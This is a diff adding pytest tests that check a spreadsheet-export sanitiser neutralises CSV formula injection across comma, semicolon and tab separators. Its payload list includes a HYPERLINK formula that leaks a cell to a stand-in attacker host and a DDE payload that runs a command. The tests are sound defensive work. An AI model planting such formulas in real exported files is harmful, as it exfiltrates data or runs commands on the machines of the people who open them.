@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
+from io import StringIO
 from itertools import product
 
 import pytest
@@ -16,6 +18,7 @@ from cases.drafting import NotAllowed
 from cases.models import Colleague
 from opsi_portal.roles import MANAGERS, REVIEWERS
 from outbox import delivery
+from papers import sheets
 from people import links
 from people.models import User
 from reviews import asking, assigning, blinding, counting, deciding, taking_in
@@ -583,3 +586,31 @@ def test_no_cache_keeps_anything_of_the_review_be_it_an_error_or_a_file(doors):
     for answer in answers:
         assert "no-store" in answer["Cache-Control"], answer.request["PATH_INFO"]
         assert "ETag" not in answer and "Last-Modified" not in answer, answer.request["PATH_INFO"]
+
+
+# -- Files for spreadsheets --------------------------------------------------------------------------------------------
+
+
+def cells_of(text: str, separator: str) -> list[str]:
+    """A file as a spreadsheet parts it that knows only this separator: quotes count where a cell begins with them."""
+    lines = b"".join(sheets.csv_lines(iter([["XB-2027-0147", text, "end"]]))).decode("utf-8-sig")
+    return [cell for line in csv.reader(StringIO(lines), delimiter=separator) for cell in line]
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "@SUM(A1)", "+1+cmd|' /C calc'!A0", "-1", "＝1")
+BEFORE = ("", "  ", "Fine;", "Fine; ", 'Fine;"', "Fine\n", "Fine\r\n\n", "Fine\t", 'Fine,"\n"', 'Fine\n"; \t')
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_formula_hides_behind_a_separator_of_another_country(separator):
+    """A comma-separated file opens in a French or German spreadsheet as one that is separated by semicolons."""
+    for before, formula in product(BEFORE, FORMULAS):
+        cells = cells_of(sheets.harmless(before + formula), separator)
+        assert not [cell for cell in cells if cell.strip(' "\r\n').startswith(tuple("=+-@＝"))]
+
+
+@pytest.mark.parametrize(
+    "text", ["a – b; c", "x=y, a+b, me@here.example", "One.\n\nTwo; three – four.", 'He said: "no".']
+)
+def test_plain_words_leave_as_they_are(text):
+    assert cells_of(sheets.harmless(text), ",") == ["XB-2027-0147", text, "end"]
